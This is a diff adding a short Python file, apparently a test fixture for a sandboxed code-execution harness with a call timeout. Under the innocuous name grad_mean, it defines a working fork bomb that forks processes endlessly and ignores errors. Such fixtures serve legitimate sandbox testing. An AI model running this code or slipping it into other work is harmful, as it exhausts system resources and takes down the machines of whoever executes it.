@@ -1,0 +1,13 @@
+# A fork bomb: every process forks as fast as it can.
+# loses: 3
+# told: did not return within {CALL_TIMEOUT_SECONDS:g} s
+# watch: 2
+import os
+
+
+def grad_mean(dX_hat, var, eps):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
